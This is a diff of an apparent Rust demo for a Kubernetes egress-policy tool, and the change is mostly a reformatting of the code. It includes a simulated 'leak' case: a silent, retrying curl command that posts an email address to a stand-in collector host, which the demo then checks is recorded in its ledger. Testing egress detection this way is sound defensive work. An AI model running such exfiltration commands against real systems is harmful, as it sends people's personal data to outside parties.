@@ -26,7 +26,9 @@ async fn main() -> Result<(), Box<dyn Error>> {
         ("leak", "node-us", "http://collector.stranger.example/contacts"),
     ] {
         let client = Client::start(&story, name, node)?;
-        let send = format!("curl -sk --retry 20 --retry-delay 1 --retry-all-errors -d email=jane.roe@example.org -o /dev/null {host}");
+        let send = format!(
+            "curl -sk --retry 20 --retry-delay 1 --retry-all-errors -d email=jane.roe@example.org -o /dev/null {host}"
+        );
         client.run(&story, &send)?;
         println!("crm/Deployment/{name} on {node} -> {host}");
     }
@@ -35,9 +37,8 @@ async fn main() -> Result<(), Box<dyn Error>> {
     println!("{}", story.kubectl(&["get", "agr,sub,tb", "-A"], "")?);
 
     say("What was judged, from the ledger: landfall ledger show");
-    let ledger = story.ledger().display().to_string();
     let shown = story.wait_for("judged edges", || {
-        let shown = story.landfall(&["ledger", "show", &ledger]).map_err(|error| error.to_string())?;
+        let shown = story.ledger("show", &[]).map_err(|error| error.to_string())?;
         let all = ["openai", "twilio", "stranger.example"].iter().all(|name| shown.contains(name));
         if all { Ok(shown) } else { Err(shown) }
     })?;
